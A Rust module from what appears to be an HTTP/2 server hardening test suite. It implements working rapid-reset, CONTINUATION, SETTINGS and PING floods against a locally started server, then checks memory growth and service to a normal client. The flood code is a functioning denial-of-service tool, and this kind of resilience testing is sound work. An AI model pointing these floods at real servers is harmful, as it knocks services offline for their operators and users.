//! HTTP/2 floods written frame by frame (`frames`): HEADERS reset at once
//! (rapid reset), a header block that never ends (CONTINUATION), and
//! SETTINGS and PINGs whose answers are never read.
//!
//! Each flood keeps a few connections busy for a fixed time; when the
//! server ends one (GOAWAY, close) or stops reading from it, the attacker
//! opens another, as a real one would.

use std::net::SocketAddr;
use std::sync::Arc;
use std::time::{Duration, Instant};

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::sync::oneshot;
use tokio::task::JoinSet;

use super::case::{Ctx, Measured};
use super::frames::{self, Reader};
use super::h2::RSS_BUDGET_KIB;
use super::stats::Tally;
use super::target::{App, Setup};

/// How long a write may block before the flood counts as pushed back.
const PUSHED_BACK: Duration = Duration::from_secs(2);

/// Makes batch `i` of a flood's frames.
type Batch = Arc<dyn Fn(usize) -> Vec<u8> + Send + Sync>;

/// What one flood connection sends.
struct Plan {
    /// Written first: the preface and whatever the flood builds on.
    opening: Vec<u8>,
    /// The flood itself, batch by batch.
    batch: Batch,
    /// Batches per connection at most.
    batches: usize,
    /// Whether to read (and discard) what the server sends.
    read: bool,
}

/// How a flood connection ended.
#[derive(Debug, Default)]
struct Flood {
    /// Batches written in full.
    batches: usize,
    /// Could not connect or send the opening.
    failed: bool,
    /// A write blocked for [`PUSHED_BACK`]: the server stopped reading.
    pushed_back: bool,
    /// The attack's time ran out first.
    cut: bool,
    /// The server closed the connection.
    closed: bool,
    /// The GOAWAY's error code and last stream id, if one came.
    goaway: Option<(u32, u32)>,
}

/// One connection of `plan`, until the server ends it, pushes back, every
/// batch is sent, or `end`.
async fn flood(addr: SocketAddr, plan: &Plan, end: Instant) -> Flood {
    let Ok(mut stream) = TcpStream::connect(addr).await else {
        return Flood { failed: true, ..Flood::default() };
    };
    if stream.write_all(&plan.opening).await.is_err() {
        return Flood { failed: true, ..Flood::default() };
    }
    let (mut rd, mut wr) = stream.into_split();
    let (done, writer_done) = oneshot::channel::<()>();
    let end = tokio::time::Instant::from(end);
    let writer = async move {
        let mut flood = Flood::default();
        for i in 0..plan.batches {
            if tokio::time::Instant::now() >= end {
                flood.cut = true;
                break;
            }
            match tokio::time::timeout(PUSHED_BACK, wr.write_all(&(plan.batch)(i))).await {
                Ok(Ok(())) => flood.batches += 1,
                Ok(Err(_)) => {
                    flood.closed = true;
                    break;
                }
                Err(_) => {
                    flood.pushed_back = true;
                    break;
                }
            }
        }
        let _ = done.send(());
        // Kept open until the reader is done, so a close it sees is the server's.
        (flood, wr)
    };
    let reader = async move {
        let mut goaway = None;
        if !plan.read {
            return (false, goaway);
        }
        let mut frames_in = Reader::default();
        let mut buf = vec![0u8; 16 * 1024];
        let mut writer_done = writer_done;
        // After the writer stops, a moment for a GOAWAY or a close to arrive.
        let (mut stop, mut writer_finished) = (end, false);
        loop {
            tokio::select! {
                read = rd.read(&mut buf) => match read {
                    Ok(0) | Err(_) => return (true, goaway),
                    Ok(n) => {
                        for (head, payload) in frames_in.feed(&buf[..n]) {
                            if head.kind == frames::GOAWAY {
                                goaway = frames::goaway(&payload);
                            }
                        }
                    }
                },
                _ = &mut writer_done, if !writer_finished => {
                    writer_finished = true;
                    stop = end.min(tokio::time::Instant::now() + Duration::from_millis(500));
                }
                () = tokio::time::sleep_until(stop) => return (false, goaway),
            }
        }
    };
    let ((mut flood, _wr), (closed, goaway)) = tokio::join!(writer, reader);
    flood.closed |= closed;
    flood.goaway = goaway;
    flood
}

/// Runs `conns` attackers, each flooding connection after connection with
/// `plan` for the attack's time, beside the normal client; `describe`
/// turns the floods into the figure and any rule of the case's own.
fn flood_case(
    ctx: &Ctx,
    conns: usize,
    plan: Plan,
    describe: impl Fn(&[Flood]) -> (String, bool),
) -> Result<Measured, String> {
    let duration = Duration::from_secs(ctx.pick(15, 4));
    let mut scene = ctx.start(App::Hello, &Setup::default())?;
    let addr = scene.addr;
    scene.watch();
    let plan = Arc::new(plan);
    let floods = ctx.run(async move {
        let end = Instant::now() + duration;
        let mut set = JoinSet::new();
        for _ in 0..conns {
            let plan = plan.clone();
            set.spawn(async move {
                let mut floods = Vec::new();
                while Instant::now() < end {
                    let flood = flood(addr, &plan, end).await;
                    if flood.failed {
                        tokio::time::sleep(Duration::from_millis(50)).await;
                    }
                    floods.push(flood);
                }
                floods
            });
        }
        set.join_all().await.into_iter().flatten().collect::<Vec<Flood>>()
    })?;
    let seen = scene.finish();
    let (what, own_rule) = describe(&floods);
    Ok(Measured {
        figure: format!(
            "{conns} attackers for {} s, {} connections: {what}; {}; {}",
            duration.as_secs(),
            floods.len(),
            seen.rss.describe(),
            seen.normal.describe()
        ),
        holds: own_rule && seen.rss.growth() < RSS_BUDGET_KIB && seen.normal.holds(),
    })
}

/// How the floods ended, as `GOAWAY ENHANCE_YOUR_CALM ×3, pushed back ×1`.
fn endings(floods: &[Flood]) -> Tally {
    let mut t = Tally::default();
    for f in floods {
        t.add(match f {
            Flood { failed: true, .. } => "connect failed".to_owned(),
            Flood { goaway: Some((code, _)), .. } => {
                format!("GOAWAY {}", frames::error_name(*code))
            }
            Flood { closed: true, .. } => "closed".into(),
            Flood { pushed_back: true, .. } => "pushed back".into(),
            Flood { cut: true, .. } => "open at the end".into(),
            _ => "sent all".into(),
        });
    }
    t
}

/// `h2-rapid-reset`: HEADERS then RST_STREAM at once, stream after stream.
pub fn rapid_reset(ctx: &Ctx) -> Result<Measured, String> {
    const PAIRS_PER_BATCH: usize = 100;
    let block = frames::get_block("/plaintext", "127.0.0.1");
    let batch = move |i: usize| {
        let mut out = Vec::new();
        for k in 0..PAIRS_PER_BATCH {
            // Client streams are odd; ids stay far below 2^31 in a minute.
            let stream = (2 * (i * PAIRS_PER_BATCH + k) + 1) as u32;
            let flags = frames::END_STREAM | frames::END_HEADERS;
            out.extend(frames::frame(frames::HEADERS, flags, stream, &block));
            out.extend(frames::rst_stream(stream, frames::CANCEL));
        }
        out
    };
    let plan = Plan {
        opening: frames::client_start(),
        batch: Arc::new(batch),
        batches: usize::MAX,
        read: true,
    };
    flood_case(ctx, ctx.pick(10, 2), plan, |floods| {
        let sent: usize = floods.iter().map(|f| f.batches * PAIRS_PER_BATCH).sum();
        let taken = floods.iter().filter_map(|f| f.goaway).map(|(_, last)| last.div_ceil(2)).max();
        let taken = taken.map_or(String::new(), |n| format!(", at most {n} streams taken on one"));
        (format!("{sent} HEADERS+RST_STREAM pairs written, {}{taken}", endings(floods)), true)
    })
}

/// `h2-continuation-flood`: a header block that never ends.
pub fn continuation_flood(ctx: &Ctx) -> Result<Measured, String> {
    const FRAMES_PER_BATCH: usize = 16;
    let mut opening = frames::client_start();
    let block = frames::get_block("/plaintext", "127.0.0.1");
    opening.extend(frames::frame(frames::HEADERS, frames::END_STREAM, 1, &block));
    let field = frames::literal(b"x-pad", &[b'a'; 100]);
    let whole_fields = frames::MAX_FRAME / field.len() * field.len();
    let payload: Vec<u8> = field.iter().copied().cycle().take(whole_fields).collect();
    let one = frames::frame(frames::CONTINUATION, 0, 1, &payload);
    let batch_bytes = FRAMES_PER_BATCH * payload.len();
    let cap_mib = ctx.pick(64, 16);
    let plan = Plan {
        opening,
        batch: Arc::new(move |_| one.repeat(FRAMES_PER_BATCH)),
        batches: (cap_mib << 20) / batch_bytes,
        read: true,
    };
    flood_case(ctx, ctx.pick(8, 2), plan, move |floods| {
        let most = floods.iter().map(|f| f.batches * batch_bytes).max().unwrap_or(0);
        let ended = floods.iter().filter(|f| f.closed || f.goaway.is_some()).count();
        let sent_all = floods
            .iter()
            .filter(|f| !f.failed && !f.closed && f.goaway.is_none() && !f.cut)
            .count();
        (
            format!(
                "header blocks of up to {cap_mib} MiB: {}; at most {:.1} MiB written on one",
                endings(floods),
                most as f64 / f64::from(1 << 20)
            ),
            ended > 0 && sent_all == 0,
        )
    })
}

/// `h2-settings-flood`: SETTINGS frames without reading their ACKs.
pub fn settings_flood(ctx: &Ctx) -> Result<Measured, String> {
    control_flood(ctx, "SETTINGS", |_| frames::settings(&[(0x1, 4096)]))
}

/// `h2-ping-flood`: PINGs without reading the answers.
pub fn ping_flood(ctx: &Ctx) -> Result<Measured, String> {
    control_flood(ctx, "PING", |i| frames::ping(i as u64))
}

/// Floods of one control frame made by `one`, never reading.
fn control_flood(
    ctx: &Ctx,
    name: &'static str,
    one: fn(usize) -> Vec<u8>,
) -> Result<Measured, String> {
    const PER_BATCH: usize = 1_000;
    let batch = move |i: usize| (0..PER_BATCH).flat_map(|k| one(i * PER_BATCH + k)).collect();
    let plan = Plan {
        opening: frames::client_start(),
        batch: Arc::new(batch),
        batches: usize::MAX,
        read: false,
    };
    flood_case(ctx, ctx.pick(10, 2), plan, move |floods| {
        let sent: usize = floods.iter().map(|f| f.batches * PER_BATCH).sum();
        (format!("{sent} {name} sent, never reading; {}", endings(floods)), true)
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn endings_name_the_first_reason() {
        let floods = [
            Flood { goaway: Some((11, 41)), closed: true, ..Flood::default() },
            Flood { pushed_back: true, ..Flood::default() },
            Flood { cut: true, ..Flood::default() },
            Flood::default(),
        ];
        assert_eq!(
            endings(&floods).to_string(),
            "GOAWAY ENHANCE_YOUR_CALM ×1, open at the end ×1, pushed back ×1, sent all ×1"
        );
    }
}
